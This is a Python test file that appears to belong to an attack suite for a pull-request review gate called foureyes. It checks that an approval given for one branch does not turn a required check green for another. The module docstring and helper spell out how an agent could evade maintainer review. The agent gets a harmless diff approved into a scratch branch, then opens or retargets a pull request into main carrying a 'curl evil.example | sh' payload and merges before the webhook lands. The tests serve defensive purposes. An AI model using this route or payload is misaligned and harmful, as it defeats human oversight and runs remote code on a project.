"""Invariants 9 and 11: a check run belongs to a commit, so a `success` published for one
context is what every later context of that commit shows until foureyes hears of it.

The agent opens a pull request into a scratch branch (an innocent diff there), a
maintainer approves it: the head's check is `success`. The agent then opens a second pull
request from the same head into `main` (whose diff carries the payload parked on scratch),
or retargets the approved one to `main`, and merges at once, before the
`pull_request.opened`/`edited` webhook has been delivered and judged (simulated here by
deliveries failing meanwhile, as the harness's `webhooks_lost` does). GitHub's required
check on the head is already green for the unapproved diff into `main`.
"""

from __future__ import annotations

from tests.attacks.harness import MAINTAINER, REPO, Attack

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"


def _approved_into_scratch(attack: Attack):
    agent = attack.agent("agent:acme/fixer", "alice")
    agent.create_branch("scratch", attack.main())
    agent.commit("scratch", "src/app.py", PAYLOAD)
    scratch = attack.sim.world.repo(REPO).branches["scratch"]
    agent.create_branch("typo-fix", scratch)
    head = agent.commit("typo-fix", "README.md", "# widgets, spelled right\n")
    into_scratch = agent.open_pull("typo-fix", base="scratch", title="Fix a typo (docs)")
    attack.sim.review(REPO, into_scratch, MAINTAINER)  # approves the innocent diff
    run = attack.check(into_scratch)  # approved, but never `success` for another base
    assert run.conclusion == "action_required"
    assert "passes into scratch only" in run.output["title"]
    return agent, head, into_scratch


def test_r2_a_pull_request_into_main_opened_at_an_approved_head_is_not_born_green(
    attack: Attack,
):
    agent, head, _into_scratch = _approved_into_scratch(attack)
    with attack.webhooks_lost():  # the agent acts before foureyes hears of the new context
        into_main = agent.open_pull("typo-fix", base="main", title="Fix a typo")
        assert attack.head(into_main) == head
        # This is the moment the agent calls PUT /pulls/{n}/merge.
        run = attack.check(into_main)
        assert run.conclusion != "success", (
            f"#{into_main} into main (unapproved, carries the payload) shows the required "
            f"check on {head[:7]} as success the moment it is opened: {run.output.get('title')}"
        )


def test_r2_a_retarget_to_main_does_not_keep_the_scratch_approval_green(attack: Attack):
    agent, head, into_scratch = _approved_into_scratch(attack)
    with attack.webhooks_lost():
        agent.call("PATCH", f"/pulls/{into_scratch}", base="main")
        run = attack.check(into_scratch)
        assert run.conclusion != "success", (
            f"#{into_scratch}, retargeted to main, still shows success on {head[:7]} until "
            f"foureyes judges the retarget: {run.output.get('title')}"
        )
